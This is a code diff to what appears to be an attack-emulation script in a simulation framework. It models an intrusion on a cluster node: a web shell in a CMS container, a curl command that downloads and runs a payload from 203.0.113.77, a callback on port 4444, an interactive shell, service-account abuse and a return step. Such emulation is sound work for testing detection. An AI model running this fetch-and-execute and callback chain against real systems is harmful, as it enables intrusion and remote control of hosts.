@@ -10,7 +10,7 @@ from examples import hooks
 from examples.activities import run
 from examples.cluster import API
 from examples.events import Process
-from examples.processes import Node
+from examples.node import Node
 
 SERVER: Final = "203.0.113.77"
 _WEB_UID: Final = 33
@@ -24,10 +24,9 @@ def intrude(node: Node) -> Iterator[bool]:
     web = next(main for _, main in node.containers if main.pod and main.pod.workload == "cms")
     server = node.fork(web, uid=_WEB_UID, cwd="/var/www/html")
     yield from _web_shell(node, server)
-    yield from _download(node, server)
-    dropped = _started(node, server)
-    yield True
-    yield from hooks.talk(node, dropped, SERVER, 4444, 96)
+    dropped = yield from _download(node, server)
+    line = hooks.talk(node, dropped, SERVER, 4444, 96)
+    yield next(line)
     shell = node.clone(dropped, "/bin/sh", "-i")
     yield True
     yield from _service_account(node, shell)
@@ -39,6 +38,9 @@ def intrude(node: Node) -> Iterator[bool]:
     for process in (root, shell):
         node.exit(process)
         yield True
+    yield from line
+    node.exit(dropped)
+    yield True
     yield from _come_back(node)
 
 
@@ -57,7 +59,7 @@ def _web_shell(node: Node, server: Process) -> Iterator[bool]:
         yield True
 
 
-def _download(node: Node, server: Process) -> Iterator[bool]:
+def _download(node: Node, server: Process) -> Generator[bool, None, Process]:
     line = f"curl -fsSL http://{SERVER}:8080/x -o {_DROPPED} && chmod +x {_DROPPED} && {_DROPPED} &"
     shell = node.clone(server, "/bin/sh", "-c", line)
     yield True
@@ -72,13 +74,12 @@ def _download(node: Node, server: Process) -> Iterator[bool]:
     hooks.chmod(node, chmod, _DROPPED, 0o755)
     node.exit(chmod)
     yield True
+    hooks.checked(node, shell, _DROPPED)
+    dropped = node.clone(shell, _DROPPED)
+    yield True
     node.exit(shell)
     yield True
-
-
-def _started(node: Node, server: Process) -> Process:
-    hooks.checked(node, server, _DROPPED)
-    return node.clone(server, _DROPPED, cwd="/tmp")
+    return dropped
 
 
 def _service_account(node: Node, shell: Process) -> Iterator[bool]:
